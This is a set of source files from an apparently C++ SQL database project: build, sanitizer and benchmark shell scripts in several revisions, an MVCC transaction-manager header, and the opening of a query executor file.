#   lockcheck — the concurrency gate: the lockcheck analyzer self-scans
#            src/ against locks.spec (exit 1 on ANY finding, warnings
#            included), then, when a clang++ is available, rebuilds with
#            SEPTIC_WTHREAD_SAFETY=ON so Clang's -Wthread-safety proves
#            the GUARDED_BY/REQUIRES annotations (SKIPs under gcc-only
#            toolchains; the analyzer half always runs)
#   ubsan  — UBSan-only preset; runs the parser and detector suites, the
#            two codepaths that chew on attacker-controlled bytes
#   scan   — septic_scan over the sample apps: emits the JSON report and
#            the pre-trained QM store; fails on scanner/IO errors (exit 2).
#            Findings themselves are expected on the stock apps (they carry
#            the corpus's deliberate weaknesses) and are gated byte-exactly
#            by the test tier's golden files.
#   txn    — the MVCC transaction suite: the behavior-bar tests
#            (test_txn_mvcc), the transaction semantics tests
#            (test_transactions), and the concurrency stress suite
#            (test_stress_concurrency), run directly from the default
#            build. A focused re-run for engine/txn work; the test tier
#            already includes all three via ctest.
#   recovery — the durability gate: the WAL/checkpoint unit + persistence
#            suite (test_durable_storage) and the kill-at-every-crashpoint
#            matrix (test_recovery_crash) from the default build, then the
#            crash matrix once more under ASan (builds the asan preset
#            target on demand) so recovery's salvage paths run leak- and
#            overflow-checked. A focused re-run for storage/wal work; the
#            test tier already includes both suites via ctest.
#   net    — the front-end gate: the network suites most exposed to the
#            epoll loop's cross-thread handoffs (test_net_pipeline,
#            test_net_prepared, test_net) rebuilt and run under TSan, so
#            the loop/worker claim protocol is proven race-free, not just
#            exercised. A focused re-run for src/net work; the test tier
#            already includes all three (uninstrumented) via ctest.
#   bench  — scripts/bench.sh (release build + throughput/durability/
#            front-end bench -> BENCH_PR9.json). Opt-in: SKIPs unless
#            SEPTIC_RUN_BENCH=1, so the default gate stays fast and
#            benches never run on loaded CI machines by accident.
#
# Usage:
#   scripts/check.sh                # build test txn recovery net lint lockcheck ubsan scan
#   scripts/check.sh build test     # just those tiers
#   scripts/check.sh asan|tsan      # full ctest under that sanitizer
#   scripts/check.sh all            # default tiers + asan + tsan
#   SEPTIC_RUN_BENCH=1 scripts/check.sh bench
#
# Exit: non-zero iff any executed tier FAILs. A summary table is always
# printed.
set -uo pipefail
cd "$(dirname "$0")/.."

jobs=$(nproc 2>/dev/null || echo 4)
apps=(src/web/apps/addressbook.cpp src/web/apps/tickets.cpp
      src/web/apps/waspmon.cpp src/web/apps/refbase.cpp
      src/web/apps/zerocms.cpp)

names=()
results=()
record() { names+=("$1"); results+=("$2"); }

tier_build() {
  cmake --preset default -DSEPTIC_WERROR=ON \
        -DCMAKE_EXPORT_COMPILE_COMMANDS=ON &&
    cmake --build --preset default -j "${jobs}"
}

tier_test() {
  ctest --preset default -j "${jobs}"
}

tier_lint() {
  local ran=0 rc=0
  if command -v clang-tidy >/dev/null 2>&1; then
    ran=1
    echo "-- clang-tidy (src/, config .clang-tidy)"
    # Whole-tree scope: every directory is at zero-warning now that the
    # lockcheck subsystem landed (PR 8 widened this from src/analysis).
    mapfile -t tidy_srcs < <(find src -name '*.cpp' | sort)
    clang-tidy -p build --quiet "${tidy_srcs[@]}" || rc=1
  else
    echo "-- clang-tidy not installed; skipping"
  fi
  if command -v cppcheck >/dev/null 2>&1; then
    ran=1
    echo "-- cppcheck (src/)"
    cppcheck --enable=warning,performance --inline-suppr \
             --error-exitcode=1 --quiet -j "${jobs}" \
             -I src src/ || rc=1
  else
    echo "-- cppcheck not installed; skipping"
  fi
  [ "${ran}" -eq 0 ] && return 77
  return "${rc}"
}

tier_lockcheck() {
  local bin=build/src/analysis/lockcheck
  [ -x "${bin}" ] || { echo "lockcheck not built (run the build tier first)"; return 1; }
  echo "-- lockcheck self-scan (src/ against locks.spec)"
  # Warnings gate too: an unknown mutex or a missing crashpoint is a spec
  # drift, and the spec is the contract.
  "${bin}" --spec locks.spec --fail-on warning src || return 1
  echo "-- self-scan clean"
  if command -v clang++ >/dev/null 2>&1; then
    echo "-- clang -Wthread-safety build (SEPTIC_WTHREAD_SAFETY=ON)"
    cmake -B build-wthread -S .           -DCMAKE_CXX_COMPILER=clang++           -DSEPTIC_WTHREAD_SAFETY=ON           -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null &&
      cmake --build build-wthread -j "${jobs}" --target septic_storage             septic_engine septic_net septic_core septic_common || return 1
  else
    echo "-- clang++ not installed; skipping -Wthread-safety half"
  fi
  return 0
}

tier_ubsan() {
  cmake --preset ubsan &&
    cmake --build --preset ubsan -j "${jobs}" \
          --target test_parser test_detector &&
    UBSAN_OPTIONS=print_stacktrace=1:halt_on_error=1 \
      ./build-ubsan/tests/test_parser &&
    UBSAN_OPTIONS=print_stacktrace=1:halt_on_error=1 \
      ./build-ubsan/tests/test_detector
}

tier_scan() {
  local bin=build/src/analysis/septic_scan
  [ -x "${bin}" ] || { echo "septic_scan not built (run the build tier first)"; return 1; }
  "${bin}" "${apps[@]}" \
           --json --out build/septic-scan-report.json \
           --qm-out build/static-models.qm
  local rc=$?
  # 0 = clean, 1 = findings (expected: the stock apps deliberately carry
  # the corpus weaknesses; exact findings are golden-tested). 2 = broken.
  if [ "${rc}" -le 1 ]; then
    echo "-- report: build/septic-scan-report.json"
    echo "-- pre-trained QM store: build/static-models.qm"
    return 0
  fi
  return 1
}

tier_txn() {
  local bins=(build/tests/test_txn_mvcc build/tests/test_transactions
              build/tests/test_stress_concurrency)
  local rc=0
  for bin in "${bins[@]}"; do
    [ -x "${bin}" ] || { echo "${bin} not built (run the build tier first)"; return 1; }
    "${bin}" || rc=1
  done
  return "${rc}"
}

tier_recovery() {
  local bins=(build/tests/test_durable_storage build/tests/test_recovery_crash)
  local rc=0
  for bin in "${bins[@]}"; do
    [ -x "${bin}" ] || { echo "${bin} not built (run the build tier first)"; return 1; }
    "${bin}" || rc=1
  done
  [ "${rc}" -ne 0 ] && return 1
  # One ASan pass of the crash matrix: the child processes inherit the
  # instrumentation, so recovery's salvage paths (torn tails, corrupt
  # checkpoints) run with overflow and use-after-free checking.
  echo "-- crash matrix under ASan"
  cmake --preset asan >/dev/null &&
    cmake --build --preset asan -j "${jobs}" --target test_recovery_crash &&
    ASAN_OPTIONS=halt_on_error=1 ./build-asan/tests/test_recovery_crash
}

tier_net() {
  # TSan, not the default build: the interesting failures here are ordering
  # bugs in the loop/worker claim handoff, and those only become hard
  # evidence under the race detector.
  echo "-- front-end suites under TSan"
  cmake --preset tsan >/dev/null &&
    cmake --build --preset tsan -j "${jobs}" \
          --target test_net test_net_prepared test_net_pipeline || return 1
  local rc=0
  for bin in build-tsan/tests/test_net build-tsan/tests/test_net_prepared \
             build-tsan/tests/test_net_pipeline; do
    TSAN_OPTIONS=halt_on_error=1 "${bin}" || rc=1
  done
  return "${rc}"
}

tier_bench() {
  if [ "${SEPTIC_RUN_BENCH:-0}" != "1" ]; then
    echo "-- bench disabled (set SEPTIC_RUN_BENCH=1 to run); skipping"
    return 77
  fi
  scripts/bench.sh
}

run_tier() {
  local name=$1
  echo
  echo "==== tier: ${name} ===="
  "tier_${name}"
  local rc=$?
  if [ "${rc}" -eq 0 ]; then
    record "${name}" PASS
  elif [ "${rc}" -eq 77 ]; then
    record "${name}" SKIP
  else
    record "${name}" FAIL
  fi
}

run_preset_full() {
  local preset=$1
  echo
  echo "==== tier: ${preset} (full suite) ===="
  if cmake --preset "${preset}" &&
     cmake --build --preset "${preset}" -j "${jobs}" &&
     ctest --preset "${preset}" -j "${jobs}"; then
    record "${preset}" PASS
  else
    record "${preset}" FAIL
  fi
}

default_tiers=(build test txn recovery net lint lockcheck ubsan scan)
if [ "$#" -eq 0 ]; then
  tiers=("${default_tiers[@]}")
elif [ "$1" = "all" ]; then
  tiers=("${default_tiers[@]}" asan tsan)
else
  tiers=("$@")
fi

for t in "${tiers[@]}"; do
  case "${t}" in
    build|test|txn|recovery|net|lint|lockcheck|ubsan|scan|bench) run_tier "${t}" ;;
    asan|tsan) run_preset_full "${t}" ;;
    *)
      echo "usage: $0 [build|test|txn|recovery|net|lint|lockcheck|ubsan|scan|bench|asan|tsan|all ...]" >&2
      exit 2
      ;;
  esac
done

echo
echo "==== summary ===="
bad=0
for i in "${!names[@]}"; do
  printf '  %-8s %s\n' "${names[$i]}" "${results[$i]}"
  [ "${results[$i]}" = FAIL ] && bad=1
done
if [ "${bad}" -ne 0 ]; then
  echo "FAILED"
  exit 1
fi
echo "OK"

#!/usr/bin/env bash
# Tier-1 gate under sanitizers: configure + build the ASan/UBSan preset and
# run the whole ctest suite in it. Pass `tsan` to run the ThreadSanitizer
# preset instead (the shutdown/fd-ownership tests are the interesting ones
# there), or `all` for both.
#
#   scripts/check.sh           # ASan + UBSan (default)
#   scripts/check.sh tsan
#   scripts/check.sh all
set -euo pipefail
cd "$(dirname "$0")/.."

jobs=$(nproc 2>/dev/null || echo 4)

run_preset() {
  local preset=$1
  echo "== configure (${preset}) =="
  cmake --preset "${preset}"
  echo "== build (${preset}) =="
  cmake --build --preset "${preset}" -j "${jobs}"
  echo "== ctest (${preset}) =="
  ctest --preset "${preset}" -j "${jobs}"
}

case "${1:-asan}" in
  asan) run_preset asan ;;
  tsan) run_preset tsan ;;
  all)
    run_preset asan
    run_preset tsan
    ;;
  *)
    echo "usage: $0 [asan|tsan|all]" >&2
    exit 2
    ;;
esac
echo "OK"

#!/usr/bin/env bash
# Build the release-nofailpoints preset (production shape: full
# optimization, zero failpoint probes) and run the PR4 multi-client
# throughput bench over the real net stack, writing BENCH_PR4.json at the
# repository root.
#
# Usage:
#   scripts/bench.sh [out.json]
#
# Scale knobs pass through to the bench:
#   SEPTIC_BENCH_NET_QUERIES   queries per client per config (default 300)
#   SEPTIC_BENCH_NET_CLIENTS   comma list of client counts (default 1,2,4,8,16)
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR4.json}"
jobs=$(nproc 2>/dev/null || echo 4)

cmake --preset release-nofailpoints
cmake --build --preset release-nofailpoints -j "${jobs}" \
      --target throughput_concurrent

SEPTIC_BENCH_JSON="${out}" ./build-release/bench/throughput_concurrent
echo "== ${out} =="
cat "${out}"

#!/usr/bin/env bash
# Build the release-nofailpoints preset (production shape: full
# optimization, zero failpoint probes) and run the PR6 multi-client
# throughput bench (off/training/prevention x point/readheavy workloads)
# over the real net stack, writing BENCH_PR6.json at the repository root.
#
# The pre-change baseline is measured for real, not copied from an old
# JSON: the current bench source is dropped into a detached worktree of
# the last pre-MVCC commit (so both sides run the byte-identical
# workload), built there against the old serialized engine, and its
# numbers are merged into BENCH_PR6.json under "baseline". On the 1-core
# bench container the meaningful deltas are p50/p99, not qps.
#
# Usage:
#   scripts/bench.sh [out.json]
#
# Knobs:
#   SEPTIC_BENCH_NET_QUERIES   queries per client per config (default 300)
#   SEPTIC_BENCH_NET_CLIENTS   comma list of client counts (default 1,2,4,8,16)
#   SEPTIC_BENCH_SKIP_BASELINE set to 1 to skip the worktree baseline run
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR6.json}"
jobs=$(nproc 2>/dev/null || echo 4)
# Last commit before the MVCC transaction subsystem: every statement still
# serialized through the single engine execute stage.
baseline_commit="dda82f5"
baseline_dir=".bench-baseline"

cmake --preset release-nofailpoints
cmake --build --preset release-nofailpoints -j "${jobs}" \
      --target throughput_concurrent

SEPTIC_BENCH_JSON="${out}" ./build-release/bench/throughput_concurrent

if [[ "${SEPTIC_BENCH_SKIP_BASELINE:-0}" != "1" ]]; then
  if [[ ! -d "${baseline_dir}" ]]; then
    git worktree add --detach "${baseline_dir}" "${baseline_commit}"
  fi
  # Same workload on both sides: the PR6 bench source replaces the
  # worktree's own (it compiles against the pre-MVCC engine API).
  cp bench/throughput_concurrent.cpp "${baseline_dir}/bench/"
  (
    cd "${baseline_dir}"
    cmake --preset release-nofailpoints >/dev/null
    cmake --build --preset release-nofailpoints -j "${jobs}" \
          --target throughput_concurrent
    SEPTIC_BENCH_JSON="baseline.json" ./build-release/bench/throughput_concurrent
  )
  python3 - "${out}" "${baseline_dir}/baseline.json" "${baseline_commit}" <<'EOF'
import json, sys
out_path, base_path, commit = sys.argv[1:4]
with open(out_path) as f:
    cur = json.load(f)
with open(base_path) as f:
    base = json.load(f)
cur["baseline"] = {
    "commit": commit,
    "note": "pre-MVCC engine (serialized execute stage), identical workload",
    "configs": base.get("configs", {}),
}
with open(out_path, "w") as f:
    json.dump(cur, f, indent=2)
    f.write("\n")
EOF
fi

echo "== ${out} =="
cat "${out}"

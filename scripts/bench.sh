#!/usr/bin/env bash
# Build the release-nofailpoints preset (production shape: full
# optimization, zero failpoint probes) and run the multi-client
# throughput bench over the real net stack, writing BENCH_PR10.json at
# the repository root: the PR6 workload-mix sweep (off/training/prevention
# x point/readheavy), the PR7 durability sweep (off/relaxed/full x client
# count), the PR9 front-end sweeps — prepared EXEC vs warm QUERY,
# pipelined batches, and the idle-connection hold — and the PR10
# scan-heavy sweep (pinned-snapshot point/range/order-limit over a 100k
# row indexed table, off vs prevention).
#
# The pre-change baseline is measured for real, not copied from an old
# JSON: the current bench source is dropped into a detached worktree of
# the last pre-planner commit (so both sides run the byte-identical
# workload), built there against the hash equality-only secondary indexes
# with no planner and no ordered access paths, and its numbers are merged
# into BENCH_PR10.json under "baseline". On the 1-core bench container
# the meaningful deltas are p50/p99, not qps.
#
# Usage:
#   scripts/bench.sh [out.json]
#
# Knobs:
#   SEPTIC_BENCH_NET_QUERIES   queries per client per config (default 300)
#   SEPTIC_BENCH_DUR_QUERIES   inserts per client, durability sweep (default 200)
#   SEPTIC_BENCH_PREP_QUERIES  execs per client, prepared sweep (default 300)
#   SEPTIC_BENCH_PIPE_QUERIES  queries per batch size, pipeline sweep (default 512)
#   SEPTIC_BENCH_IDLE_CONNS    idle connections to hold (default 1000)
#   SEPTIC_BENCH_NET_CLIENTS   comma list of client counts (default 1,2,4,8,16)
#   SEPTIC_BENCH_SCAN_ROWS     scan-heavy table size (default 100000)
#   SEPTIC_BENCH_SCAN_CYCLES   point+range+orderlimit cycles per client (default 50)
#   SEPTIC_BENCH_SCAN_CLIENTS  comma list for the scan-heavy sweep (default 1,4)
#   SEPTIC_BENCH_SKIP_BASELINE set to 1 to skip the worktree baseline run
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR10.json}"
jobs=$(nproc 2>/dev/null || echo 4)
# Last commit before the ordered-index planner: hash secondary indexes
# (equality only, current row images only), no cost-based access paths.
baseline_commit="de201c7"
baseline_dir=".bench-baseline"

cmake --preset release-nofailpoints
cmake --build --preset release-nofailpoints -j "${jobs}" \
      --target throughput_concurrent

SEPTIC_BENCH_JSON="${out}" ./build-release/bench/throughput_concurrent

if [[ "${SEPTIC_BENCH_SKIP_BASELINE:-0}" != "1" ]]; then
  if [[ ! -d "${baseline_dir}" ]]; then
    git worktree add --detach "${baseline_dir}" "${baseline_commit}"
  else
    # The directory may be a stale worktree left by an earlier PR's bench
    # (pinned to that PR's baseline commit) — re-pin it, don't trust it.
    git -C "${baseline_dir}" checkout --force --detach "${baseline_commit}"
  fi
  # Same workload on both sides: the current bench source replaces the
  # worktree's own (feature-gated sweeps compile themselves out against
  # older APIs via __has_include; the scan-heavy sweep needs only CREATE
  # INDEX + transactions, which the baseline already has).
  cp bench/throughput_concurrent.cpp "${baseline_dir}/bench/"
  (
    cd "${baseline_dir}"
    cmake --preset release-nofailpoints >/dev/null
    cmake --build --preset release-nofailpoints -j "${jobs}" \
          --target throughput_concurrent
    SEPTIC_BENCH_JSON="baseline.json" ./build-release/bench/throughput_concurrent
  )
  python3 - "${out}" "${baseline_dir}/baseline.json" "${baseline_commit}" <<'EOF'
import json, sys
out_path, base_path, commit = sys.argv[1:4]
with open(out_path) as f:
    cur = json.load(f)
with open(base_path) as f:
    base = json.load(f)
cur["baseline"] = {
    "commit": commit,
    "note": "pre-planner engine: hash secondary indexes, equality only, "
            "current row images only; identical workload",
    "configs": base.get("configs", {}),
    "durability": base.get("durability", {}),
    "prepared": base.get("prepared", {}),
    "scanheavy": base.get("scanheavy", {}),
    "idle": base.get("idle", {}),
}
with open(out_path, "w") as f:
    json.dump(cur, f, indent=2)
    f.write("\n")
EOF
fi

echo "== ${out} =="
cat "${out}"

#!/usr/bin/env bash
# Build the release-nofailpoints preset (production shape: full
# optimization, zero failpoint probes) and run the PR7 multi-client
# throughput bench over the real net stack, writing BENCH_PR7.json at the
# repository root: the PR6 workload-mix sweep (off/training/prevention x
# point/readheavy) plus the PR7 durability sweep (off/relaxed/full x
# client count, 100% autocommit INSERTs, commits-per-fsync reported).
#
# The pre-change baseline is measured for real, not copied from an old
# JSON: the current bench source is dropped into a detached worktree of
# the last pre-WAL commit (so both sides run the byte-identical
# workload), built there against the volatile-only engine, and its
# numbers are merged into BENCH_PR7.json under "baseline" (the durability
# sweep compiles itself out there — no WAL subsystem to measure). On the
# 1-core bench container the meaningful deltas are p50/p99, not qps.
#
# Usage:
#   scripts/bench.sh [out.json]
#
# Knobs:
#   SEPTIC_BENCH_NET_QUERIES   queries per client per config (default 300)
#   SEPTIC_BENCH_DUR_QUERIES   inserts per client, durability sweep (default 200)
#   SEPTIC_BENCH_NET_CLIENTS   comma list of client counts (default 1,2,4,8,16)
#   SEPTIC_BENCH_SKIP_BASELINE set to 1 to skip the worktree baseline run
set -euo pipefail
cd "$(dirname "$0")/.."

out="${1:-BENCH_PR7.json}"
jobs=$(nproc 2>/dev/null || echo 4)
# Last commit before the WAL durability subsystem: the engine still
# volatile-only (PR6 head, MVCC already in).
baseline_commit="3a271cd"
baseline_dir=".bench-baseline"

cmake --preset release-nofailpoints
cmake --build --preset release-nofailpoints -j "${jobs}" \
      --target throughput_concurrent

SEPTIC_BENCH_JSON="${out}" ./build-release/bench/throughput_concurrent

if [[ "${SEPTIC_BENCH_SKIP_BASELINE:-0}" != "1" ]]; then
  if [[ ! -d "${baseline_dir}" ]]; then
    git worktree add --detach "${baseline_dir}" "${baseline_commit}"
  fi
  # Same workload on both sides: the PR7 bench source replaces the
  # worktree's own (the durability sweep is gated on __has_include of the
  # WAL header, so it compiles against the pre-WAL engine API).
  cp bench/throughput_concurrent.cpp "${baseline_dir}/bench/"
  (
    cd "${baseline_dir}"
    cmake --preset release-nofailpoints >/dev/null
    cmake --build --preset release-nofailpoints -j "${jobs}" \
          --target throughput_concurrent
    SEPTIC_BENCH_JSON="baseline.json" ./build-release/bench/throughput_concurrent
  )
  python3 - "${out}" "${baseline_dir}/baseline.json" "${baseline_commit}" <<'EOF'
import json, sys
out_path, base_path, commit = sys.argv[1:4]
with open(out_path) as f:
    cur = json.load(f)
with open(base_path) as f:
    base = json.load(f)
cur["baseline"] = {
    "commit": commit,
    "note": "pre-WAL engine (volatile only), identical workload",
    "configs": base.get("configs", {}),
}
with open(out_path, "w") as f:
    json.dump(cur, f, indent=2)
    f.write("\n")
EOF
fi

echo "== ${out} =="
cat "${out}"

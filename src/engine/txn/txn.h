// The MVCC transaction layer: snapshot-isolated transactions over the
// versioned row store in storage/table.h.
//
// Model
//   - A global commit clock (TxnManager::visible_ts) advances by one per
//     committed write. Every row version carries a begin timestamp; a
//     superseded version keeps the commit timestamp that replaced it as its
//     end timestamp. A reader at snapshot S sees the version with
//     begin <= S < end.
//   - BEGIN pins snapshot_ts = visible_ts. Statements inside the
//     transaction buffer their writes in a per-table WriteSet (read through
//     by the executor for read-own-writes) and never touch shared state.
//   - COMMIT serializes on TxnManager::commit_mu, runs first-committer-wins
//     conflict detection (any base row we updated/deleted that was
//     re-written after our snapshot aborts the transaction), applies the
//     write set at a fresh commit timestamp, and only then publishes the
//     clock — readers observe the commit all-or-nothing.
//   - Bare statements autocommit: reads run at visible_ts with no lock at
//     all; writes serialize on commit_mu (like the seed engine's execute
//     lock, but writers no longer block readers).
//   - DDL inside a transaction applies immediately to the shared catalog
//     (bumping ddl_version_) and records an inverse operation; ROLLBACK
//     replays the undo log in reverse and bumps ddl_version_ exactly once.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <set>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/thread_annotations.h"
#include "storage/table.h"

namespace septic::engine::txn {

/// "Forever": the end timestamp of a live version, and the snapshot that
/// sees everything (legacy single-threaded executor paths).
inline constexpr uint64_t kTsMax = ~uint64_t{0};

/// Buffered inserts are addressed by synthetic slots >= this base so the
/// executor's slot-keyed UPDATE/DELETE machinery works unchanged on rows
/// that exist only in the write set.
inline constexpr size_t kTxnSlotBase = size_t{1} << 62;

/// Per-table buffered effects of an open transaction.
struct TableWrites {
  /// Rows inserted by this transaction, in insert order. A slot deleted
  /// again by the same transaction becomes nullopt (slots must stay stable
  /// because they back the synthetic slot ids).
  std::vector<std::optional<storage::Row>> inserts;
  /// Base-table slot -> full replacement image.
  std::map<size_t, storage::Row> updates;
  /// Base-table slots deleted.
  std::set<size_t> deletes;

  bool empty() const {
    if (!updates.empty() || !deletes.empty()) return false;
    for (const auto& r : inserts) {
      if (r) return false;
    }
    return true;
  }
};

/// Inverse of one DDL statement executed inside a transaction.
struct DdlUndo {
  enum class Kind {
    kDropTable,     // undoes CREATE TABLE
    kRestoreTable,  // undoes DROP TABLE / TRUNCATE (from a serialized copy)
    kDropIndex,     // undoes CREATE INDEX
    kCreateIndex,   // undoes DROP INDEX
  };
  Kind kind;
  std::string table;
  std::string index;
  std::string column;    // for kCreateIndex
  std::string snapshot;  // for kRestoreTable: one-table catalog block
};

enum class TxnState { kActive, kCommitted, kRolledBack };

struct Transaction {
  uint64_t id = 0;
  uint64_t session_id = 0;
  uint64_t snapshot_ts = 0;
  bool read_only = false;
  /// Atomic so a session can cheaply notice that its cached transaction
  /// was finished elsewhere (e.g. rollback_if_owner on disconnect).
  std::atomic<TxnState> state{TxnState::kActive};
  /// Key: lower-cased table name (the catalog's key).
  std::map<std::string, TableWrites> writes;
  std::vector<DdlUndo> ddl_undo;

  bool active() const {
    return state.load(std::memory_order_acquire) == TxnState::kActive;
  }
  TableWrites* find_writes(const std::string& table_key) {
    auto it = writes.find(table_key);
    return it == writes.end() ? nullptr : &it->second;
  }
  const TableWrites* find_writes(const std::string& table_key) const {
    auto it = writes.find(table_key);
    return it == writes.end() ? nullptr : &it->second;
  }
  TableWrites& writes_for(const std::string& table_key) {
    return writes[table_key];
  }
};

struct TxnStats {
  uint64_t begun = 0;
  uint64_t committed = 0;
  uint64_t rolled_back = 0;      // includes conflicts and aborts-on-block
  uint64_t conflicts = 0;        // commits aborted by first-committer-wins
  uint64_t aborted_on_block = 0; // rollbacks forced by the abort-txn policy
};

/// Issues transaction ids and commit timestamps, tracks open transactions
/// (for disconnect cleanup and the vacuum horizon), and owns the commit
/// serialization point. The Database facade drives the actual commit
/// protocol; this class only hands out the pieces.
class TxnManager {
 public:
  std::shared_ptr<Transaction> begin(uint64_t session_id, bool read_only) {
    auto t = std::make_shared<Transaction>();
    t->read_only = read_only;
    t->session_id = session_id;
    t->snapshot_ts = visible_ts();
    std::lock_guard lock(mu_);
    t->id = next_id_++;
    active_[session_id] = t;
    begun_.fetch_add(1, std::memory_order_relaxed);
    return t;
  }

  std::shared_ptr<Transaction> find(uint64_t session_id) const {
    std::lock_guard lock(mu_);
    auto it = active_.find(session_id);
    return it == active_.end() ? nullptr : it->second;
  }

  /// Remove from the active set, publish the final state, count.
  void finish(const std::shared_ptr<Transaction>& t, TxnState final_state,
              bool conflict = false, bool aborted_on_block = false) {
    {
      std::lock_guard lock(mu_);
      auto it = active_.find(t->session_id);
      if (it != active_.end() && it->second == t) active_.erase(it);
    }
    t->state.store(final_state, std::memory_order_release);
    if (final_state == TxnState::kCommitted) {
      committed_.fetch_add(1, std::memory_order_relaxed);
    } else {
      rolled_back_.fetch_add(1, std::memory_order_relaxed);
      if (conflict) conflicts_.fetch_add(1, std::memory_order_relaxed);
      if (aborted_on_block) {
        aborted_on_block_.fetch_add(1, std::memory_order_relaxed);
      }
    }
  }

  /// The newest committed timestamp: what a fresh snapshot sees.
  uint64_t visible_ts() const {
    return clock_.load(std::memory_order_acquire);
  }
  /// Publish a completed commit. Caller holds commit_mu and has finished
  /// applying every write tagged `ts` — publishing is what makes them
  /// visible, atomically, to new snapshots.
  void publish(uint64_t ts) { clock_.store(ts, std::memory_order_release); }

  /// Serializes commits (and autocommit writes) against each other.
  std::mutex& commit_mu() { return commit_mu_; }

  size_t active_count() const {
    std::lock_guard lock(mu_);
    return active_.size();
  }

  /// True if any open transaction holds pending DDL undo. The caller must
  /// hold the exclusive DDL lock (ddl_undo is only mutated under it), so
  /// the answer can't change underneath a checkpoint decision — rotating
  /// the WAL would retire the kDdl records whose undo recovery still needs.
  bool any_active_ddl() const {
    std::lock_guard lock(mu_);
    for (const auto& [sid, t] : active_) {
      if (!t->ddl_undo.empty()) return true;
    }
    return false;
  }

  /// The oldest snapshot any open transaction can still read — versions
  /// whose end timestamp is <= this horizon are unreachable and can be
  /// vacuumed. Equals visible_ts when no transaction is open.
  uint64_t oldest_snapshot() const {
    uint64_t horizon = visible_ts();
    std::lock_guard lock(mu_);
    for (const auto& [sid, t] : active_) {
      horizon = std::min(horizon, t->snapshot_ts);
    }
    return horizon;
  }

  TxnStats stats() const {
    TxnStats s;
    s.begun = begun_.load(std::memory_order_relaxed);
    s.committed = committed_.load(std::memory_order_relaxed);
    s.rolled_back = rolled_back_.load(std::memory_order_relaxed);
    s.conflicts = conflicts_.load(std::memory_order_relaxed);
    s.aborted_on_block = aborted_on_block_.load(std::memory_order_relaxed);
    return s;
  }

 private:
  std::atomic<uint64_t> clock_{0};
  std::mutex commit_mu_;
  mutable std::mutex mu_;  // guards active_ / next_id_
  uint64_t next_id_ SEPTIC_GUARDED_BY(mu_) = 1;
  std::unordered_map<uint64_t, std::shared_ptr<Transaction>> active_
      SEPTIC_GUARDED_BY(mu_);
  std::atomic<uint64_t> begun_{0};
  std::atomic<uint64_t> committed_{0};
  std::atomic<uint64_t> rolled_back_{0};
  std::atomic<uint64_t> conflicts_{0};
  std::atomic<uint64_t> aborted_on_block_{0};
};

}  // namespace septic::engine::txn

#include "engine/executor.h"

#include <algorithm>
#include <map>
#include <set>

#include "common/string_util.h"
#include "engine/error.h"
#include "engine/eval.h"
#include "engine/planner.h"

namespace septic::engine {

using sql::Value;
using sql::ValueType;
using storage::Row;
using storage::Table;

namespace {

// ----------------------------------------------------------- validation

void validate_select(const storage::Catalog& catalog,
                     const sql::SelectStmt& sel);

void validate_expr_names_in(const sql::Expr& e, const NameScope& scope,
                            const storage::Catalog& catalog) {
  if (e.kind == sql::ExprKind::kColumn) {
    if (e.column == "*") return;  // COUNT(*)
    scope.resolve(e.table, e.column);  // throws when unknown
    return;
  }
  // Uncorrelated subqueries validate against their own scope only.
  if (e.subquery) validate_select(catalog, *e.subquery);
  for (const auto& c : e.children) {
    validate_expr_names_in(*c, scope, catalog);
  }
}

NameScope build_select_scope(const storage::Catalog& catalog,
                             const sql::SelectStmt& sel) {
  NameScope scope;
  size_t offset = 0;
  auto add_table = [&](const sql::TableRef& ref) {
    const Table* t = catalog.find(ref.name);
    if (t == nullptr) {
      throw DbError(ErrorCode::kUnknownTable,
                    "table '" + ref.name + "' doesn't exist");
    }
    scope.add(ref.alias.empty() ? ref.name : ref.alias, &t->schema(), offset);
    offset += t->schema().column_count();
  };
  for (const auto& ref : sel.from) add_table(ref);
  for (const auto& j : sel.joins) add_table(j.table);
  return scope;
}

void validate_select(const storage::Catalog& catalog,
                     const sql::SelectStmt& sel) {
  NameScope scope = build_select_scope(catalog, sel);
  for (const auto& it : sel.items) {
    if (!it.star) validate_expr_names_in(*it.expr, scope, catalog);
  }
  for (const auto& j : sel.joins) validate_expr_names_in(*j.on, scope, catalog);
  if (sel.where) validate_expr_names_in(*sel.where, scope, catalog);
  for (const auto& g : sel.group_by) validate_expr_names_in(*g, scope, catalog);
  if (sel.having) validate_expr_names_in(*sel.having, scope, catalog);
  for (const auto& o : sel.order_by) {
    // ORDER BY may reference select aliases; tolerate unknown bare columns
    // that match an alias.
    if (o.expr->kind == sql::ExprKind::kColumn && o.expr->table.empty()) {
      bool is_alias = false;
      for (const auto& it : sel.items) {
        if (!it.star && common::iequals(it.alias, o.expr->column)) {
          is_alias = true;
          break;
        }
      }
      if (is_alias) continue;
    }
    validate_expr_names_in(*o.expr, scope, catalog);
  }
  for (const auto& u : sel.unions) validate_select(catalog, *u.select);
}

// --------------------------------------------------------------- SELECT

struct Aggregator {
  std::string func;  // COUNT/SUM/AVG/MIN/MAX
  const sql::Expr* arg = nullptr;  // nullptr for COUNT(*)
  int64_t count = 0;
  double sum = 0.0;
  bool sum_is_int = true;
  int64_t isum = 0;
  Value best;  // MIN/MAX
  bool seen = false;

  void feed(const NameScope& scope, const Row& row) {
    if (func == "COUNT") {
      if (arg == nullptr) {
        ++count;
      } else {
        Value v = eval_expr(*arg, &scope, &row);
        if (!v.is_null()) ++count;
      }
      return;
    }
    Value v = eval_expr(*arg, &scope, &row);
    if (v.is_null()) return;
    if (func == "SUM" || func == "AVG") {
      ++count;
      if (v.type() != ValueType::kInt) sum_is_int = false;
      isum += v.coerce_int();
      sum += v.coerce_double();
      return;
    }
    // MIN / MAX
    if (!seen) {
      best = v;
      seen = true;
      return;
    }
    int cmp = v.compare(best);
    if ((func == "MIN" && cmp < 0) || (func == "MAX" && cmp > 0)) best = v;
  }

  Value result() const {
    if (func == "COUNT") return Value(count);
    if (func == "SUM") {
      if (count == 0) return Value::null();
      return sum_is_int ? Value(isum) : Value(sum);
    }
    if (func == "AVG") {
      if (count == 0) return Value::null();
      return Value(sum / static_cast<double>(count));
    }
    return seen ? best : Value::null();
  }
};

/// Evaluates an expression in aggregate context: aggregate calls are
/// substituted with their computed results (matched by pointer).
